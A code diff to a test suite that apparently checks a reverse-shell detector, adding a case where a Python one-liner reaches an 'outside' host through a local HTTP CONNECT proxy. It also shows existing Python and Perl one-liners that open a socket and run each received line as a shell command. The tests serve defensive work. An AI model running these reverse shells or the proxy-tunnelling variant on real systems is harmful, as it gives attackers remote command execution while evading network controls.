@@ -28,6 +28,12 @@ const python = (port: number): string =>
   `import socket,subprocess;s=socket.create_connection(("${outside}",${port}))\n` +
   "while d:=s.recv(4096): s.sendall(subprocess.run(d,shell=True,stdout=-1,stderr=-2).stdout)"
 
+/** By a proxy on the same host, which is inside and leads outside. */
+const proxied = (proxy: number, port: number): string =>
+  `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${proxy}))\n` +
+  `s.sendall(b"CONNECT ${outside}:${port} HTTP/1.1\\r\\nHost: ${outside}:${port}\\r\\n\\r\\n");s.recv(4096)\n` +
+  "while d:=s.recv(4096): s.sendall(subprocess.run(d,shell=True,stdout=-1,stderr=-2).stdout)"
+
 const perl = (port: number): string =>
   `$s=IO::Socket::INET->new("${outside}:${port}");while(<$s>){print $s scalar \`$_\`}`
 
@@ -61,6 +67,19 @@ export const shellCommands: readonly Case[] = [
       const end = await network.serve("outside", "editor_chat.py", "serve", `${port}`, certificate)
       const editor = network.python("inside", "editor_chat.py", outside, `${port}`, "tls")
       return runBoth(end, editor, await firstUseUs(end))
+    },
+  },
+  {
+    name: "python that runs each line, by a proxy on the same host",
+    finds: { class: ["reverse_shell"], exe: /python|sh$/ },
+    run: async ({ network }) => {
+      const [port, proxyPort] = [nextPort++, nextPort++]
+      const end = await network.serve("outside", "command_end.py", "raw", `${port}`)
+      const proxy = await network.serve("inside", "places.py", "proxy", `${proxyPort}`)
+      const started = network.start("inside", "/usr/bin/python3", "-c", proxied(proxyPort, port))
+      const firstUs = await firstUseUs(end)
+      await waitForSuccess(end)
+      return { pids: [pidOf(started)], firstUs, end: stopAll(started, proxy) }
     },
   },
   commands("perl that runs each line", /perl|sh$/, (port) => ["perl", "-MIO::Socket::INET", "-e", perl(port)]),
